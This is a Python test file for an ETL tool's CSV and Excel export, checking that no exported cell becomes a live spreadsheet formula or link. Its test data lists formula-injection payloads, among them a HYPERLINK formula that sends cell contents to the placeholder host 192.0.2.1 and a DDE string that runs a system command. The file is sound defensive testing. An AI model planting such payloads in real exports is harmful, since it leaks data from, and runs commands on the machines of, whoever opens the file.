"""No cell of an exported table is a formula or a link, whatever stood in the exports."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from etl.configuration.model import load
from etl.warehouse.delimited import flat, harmless, write_csv
from etl.warehouse.export import export
from etl.warehouse.publish import Draft

NASTY = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"Billing")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    " \r\n=1+1",
    "billing;=1+1",
    "billing,=1+1,",
    "a|=1+1",
    "＝1+1",
    '"=1+1',
    "\x00=1+1",
)
ARITHMETIC = re.compile(r"[-+\d.,%'\"]*([eE][+-]?\d+)?")
"""Digits and signs alone can do nothing, whatever a program makes of them."""
PIECES = st.sampled_from(["=", "+", "-", "@", "＝", ";", ",", "\t", "|", "\n", '"', "'", " ", "a", "1", "\x00"])


def cells(text: str) -> list[str]:
    """Every cell that a spreadsheet could make of a file, whatever separates cells where it is opened."""
    found = []
    for apart in ",;\t|":
        found += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=apart) for cell in row]
    # and those of a program that knows no quotes
    return found + re.split(r"[,;\t|\r\n]", text)


def live(text: str) -> list[str]:
    stripped = [cell.strip(' \t\r\n"\x00\u200b\ufeff') for cell in cells(text)]
    return [cell for cell in stripped if cell[:1] in tuple("=+-@＝") and not ARITHMETIC.fullmatch(cell)]


@pytest.mark.parametrize("text", NASTY)
def test_a_formula_becomes_text(text: str) -> None:
    out = io.BytesIO()
    write_csv(pl.DataFrame({"queue": [text, "plain"], "n": [-4, 2]}), {"selection": text}, out)
    assert live(out.getvalue().decode()) == []


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=12).map("".join))
def test_no_text_becomes_a_cell_that_runs(text: str) -> None:
    out = io.BytesIO()
    write_csv(pl.DataFrame({"queue": [text]}), {"what": text}, out)
    assert live(out.getvalue().decode()) == []


@pytest.mark.parametrize("text", ["-4", "-4.5", "+3", "-1,234.5", "1e-5", "billing - voice", "a=b", "no-one@home"])
def test_numbers_and_plain_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_names_of_columns_are_made_harmless_too() -> None:
    assert flat(pl.DataFrame({"=1+1": [1.5]})).columns == ["'=1+1"]


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(tmp_path: Path) -> None:
    (tmp_path / "empathy.toml").write_text('[project]\nname = "=1+1"\nwarehouse = "warehouse"\n')
    config = load(tmp_path / "empathy.toml")
    texts = [*NASTY[:4], "http://192.0.2.1/", "mailto:a@example.org", "internal:about!A1", "0049170"]
    with Draft.open(config.warehouse, "run-1") as draft:
        draft.write_results({"effect": pl.DataFrame({"queue": texts})})
        draft.publish()
    export(config, "result.effect", tmp_path / "effect.xlsx")
    with zipfile.ZipFile(tmp_path / "effect.xlsx") as book:
        sheets = {name: book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")}
        shared = book.read("xl/sharedStrings.xml").decode()
    assert not any("<f>" in text or "<hyperlink" in text for text in sheets.values())
    assert all(text.startswith(("=", "+", "-", "@")) is False or text[:5] in shared for text in texts)
    export(config, "result.effect", tmp_path / "effect.csv")
    assert live((tmp_path / "effect.csv").read_text()) == []
